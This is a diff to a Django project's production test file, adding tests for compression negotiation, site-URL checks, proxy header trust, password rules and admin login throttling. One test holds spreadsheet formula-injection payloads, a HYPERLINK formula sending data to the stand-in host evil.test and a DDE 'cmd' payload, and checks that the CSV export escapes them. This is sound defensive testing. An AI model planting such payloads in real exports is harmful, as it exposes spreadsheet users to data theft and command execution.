@@ -1,9 +1,13 @@
 """Production: check --deploy, security headers scored like the HTTP Observatory, cookies,
 static files through the production storage, HTTP caching, page weight and open data."""
 
+import csv
+import http.client
+import io
 import json
 import os
 import re
+import socket
 import subprocess
 import sys
 
@@ -25,7 +29,7 @@ def test_check_deploy_passes_with_production_settings():
     skip = {"DJANGO_DEBUG", "DJANGO_ALLOW_ASYNC_UNSAFE"}
     env = {k: v for k, v in os.environ.items() if k not in skip}
     env |= {"DJANGO_SECRET_KEY": "x" * 20 + "a-long-random-production-key-for-tests",
-            "DJANGO_ALLOWED_HOSTS": "ero.example.org"}  # fmt: skip
+            "DJANGO_ALLOWED_HOSTS": "ero.example.org", "DJANGO_SITE_URL": "https://ero.example.org"}  # fmt: skip
     result = subprocess.run(
         [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
         cwd=settings.BASE_DIR, env=env, capture_output=True, text=True,
@@ -196,6 +200,15 @@ def test_first_visit_weighs_at_most_100_kb_and_html_25_kb(production_static, pat
     assert total <= 100_000, f"{path}: first visit is {total} bytes"
 
 
+def test_static_files_honour_accept_encoding_q_values(production_static):
+    css = assets_of(production_static.get("/").content.decode())[-1]
+    for header, expected in [("gzip, deflate, br", "br"), ("br;q=0, gzip", "gzip"),
+                             ("br;q=0.5, gzip;q=0.9", "gzip"), ("br;q=0", None)]:  # fmt: skip
+        served = production_static.get(css, headers={"Accept-Encoding": header})
+        assert served.status_code == 200
+        assert served.get("Content-Encoding") == expected, header
+
+
 # --- HTTP caching ------------------------------------------------------------------------------
 @pytest.fixture
 def page_cache(settings):
@@ -239,7 +252,7 @@ def test_admin_pages_are_not_cached_or_compressed(page_cache):
 @pytest.mark.parametrize("path", PAGE_TYPES.values(), ids=PAGE_TYPES.keys())
 def test_canonical_and_open_graph_on_every_page(client, path):
     html = client.get(path).content.decode()
-    assert f'<link rel="canonical" href="http://testserver{path}">' in html
+    assert f'<link rel="canonical" href="https://ero.example.org{path}">' in html
     for prop in ("og:title", "og:description", "og:url", "og:type", "og:site_name"):
         assert f'<meta property="{prop}" content="' in html
 
@@ -264,3 +277,141 @@ def test_about_links_the_open_data(client):
     html = client.get("/about/").content.decode()
     for name in ("programs", "glossary", "faq"):
         assert f'href="/data/{name}.json"' in html and f'href="/data/{name}.csv"' in html
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.test/?"&A1,"Click")',
+    "summary": "+1+cmd|' /C calc'!A0",
+    "body": "- item one\n- item two",
+    "acronym": "@SUM(1+1)",
+}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text_and_json_is_exact(client):
+    program = Program.objects.get(slug="rapid-repat")
+    for field, value in FORMULAS.items():
+        setattr(program, field, value)
+    program.save()
+    other = Program.objects.get(slug="deport-center")
+    other.summary, other.body = "\tTabbed", "\rReturned"
+    other.save()
+    rows = {
+        r["slug"]: r
+        for r in csv.DictReader(io.StringIO(client.get("/data/programs.csv").content.decode()))
+    }
+    for field, value in FORMULAS.items():
+        assert rows["rapid-repat"][field] == "'" + value, field
+    assert rows["deport-center"]["summary"] == "'\tTabbed"
+    assert rows["deport-center"]["body"] == "'\rReturned"
+    # Every cell: nothing starts like a formula.
+    assert not [v for row in rows.values() for v in row.values() if v[:1] in "=+-@\t\r" and v]
+    data = {r["slug"]: r for r in json.loads(client.get("/data/programs.json").content)}
+    for field, value in FORMULAS.items():
+        assert data["rapid-repat"][field] == value, field
+    assert data["deport-center"]["summary"] == "\tTabbed"
+
+
+# --- The site's address ------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("site_url", "hosts", "expected"),
+    [
+        ("https://ero.example.org", ["ero.example.org"], set()),
+        ("http://ero.example.org", ["ero.example.org"], {"programs.W001"}),
+        ("https://ero.example.org", ["other.example.org"], {"programs.W002"}),
+        ("https://[::1]:8443", ["[::1]"], set()),
+        ("ero.example.org", ["ero.example.org"], {"programs.E001"}),
+        ("https://ero.example.org/site/", ["ero.example.org"], {"programs.E001"}),
+    ],
+)
+def test_site_url_is_checked(settings, site_url, hosts, expected):
+    from django.core import checks
+
+    settings.SITE_URL, settings.ALLOWED_HOSTS = site_url, hosts
+    found = checks.run_checks(include_deployment_checks=True)
+    assert {m.id for m in found if m.id.startswith("programs.")} == expected
+
+
+def test_build_site_refuses_a_base_url_that_is_not_an_address(tmp_path):
+    from django.core.management.base import CommandError
+
+    with pytest.raises(
+        CommandError, match=re.escape("--base-url: 'ero.example.org' is not an http")
+    ):
+        call_command("build_site", output=str(tmp_path / "site"), base_url="ero.example.org")
+    assert not (tmp_path / "site").exists()
+
+
+# --- X-Forwarded-Proto -------------------------------------------------------------------------
+def test_forwarded_https_is_not_trusted_without_a_proxy(settings):
+    settings.SECURE_SSL_REDIRECT = True
+    response = Client().get("/", headers={"X-Forwarded-Proto": "https"})
+    assert response.status_code == 301 and response["Location"].startswith("https://")
+
+
+def scheme_seen_by_gunicorn(forwarded_proto: str) -> str:
+    """Start gunicorn as `make prod` does (with ./gunicorn.conf.py) on a socket that already
+    listens, so the request waits in its queue until gunicorn accepts it; no polling."""
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen()
+        fd = listener.fileno()
+        server = subprocess.Popen(
+            [sys.executable, "-m", "gunicorn", "-c", "gunicorn.conf.py", "--bind", f"fd://{fd}",
+             "--workers", "1", "tests.wsgi_echo:app"],
+            cwd=settings.BASE_DIR, pass_fds=[fd], stderr=subprocess.DEVNULL,
+        )  # fmt: skip
+        try:
+            conn = http.client.HTTPConnection(*listener.getsockname(), timeout=30)
+            conn.request("GET", "/", headers={"X-Forwarded-Proto": forwarded_proto})
+            return conn.getresponse().read().decode()
+        finally:
+            server.terminate()
+            server.wait(timeout=30)
+
+
+def test_gunicorn_takes_x_forwarded_proto_from_no_one():
+    # gunicorn's own default believes it from 127.0.0.1, where any local client sits.
+    assert scheme_seen_by_gunicorn("https") == "http"
+
+
+# --- Editor accounts ---------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("password", "why"),
+    [
+        ("Sh0rt!pw", "too short"),
+        ("password1234", "too common"),
+        ("482019375610", "entirely numeric"),
+        ("maria.editor.2026", "too similar"),
+    ],
+)
+def test_weak_editor_passwords_are_refused(django_user_model, password, why):
+    from django.contrib.auth.password_validation import validate_password
+    from django.core.exceptions import ValidationError
+
+    user = django_user_model(username="maria.editor", email="maria.editor@example.org")
+    with pytest.raises(ValidationError, match=why):
+        validate_password(password, user)
+    validate_password("correct horse battery staple", user)
+
+
+def admin_login(client, password, address="192.0.2.10"):
+    return client.post(
+        "/admin/login/?next=/admin/",
+        {"username": "e", "password": password},
+        REMOTE_ADDR=address,
+    )
+
+
+def test_admin_logins_are_throttled(django_user_model):
+    django_user_model.objects.create_user("e", password="the-right-password", is_staff=True)
+    guesser = Client()
+    for n in range(4):
+        response = admin_login(guesser, f"guess-{n}")
+        assert response.status_code == 200 and "sessionid" not in response.cookies
+    assert admin_login(guesser, "guess-4").status_code == 429  # the fifth failure locks
+    # Locked out: even the right password is refused now, from that address, for that name.
+    locked = admin_login(guesser, "the-right-password")
+    assert locked.status_code == 429 and "sessionid" not in locked.cookies
+    # The editor, elsewhere, still gets in.
+    editor = admin_login(Client(), "the-right-password", address="198.51.100.7")
+    assert editor.status_code == 302 and "sessionid" in editor.cookies
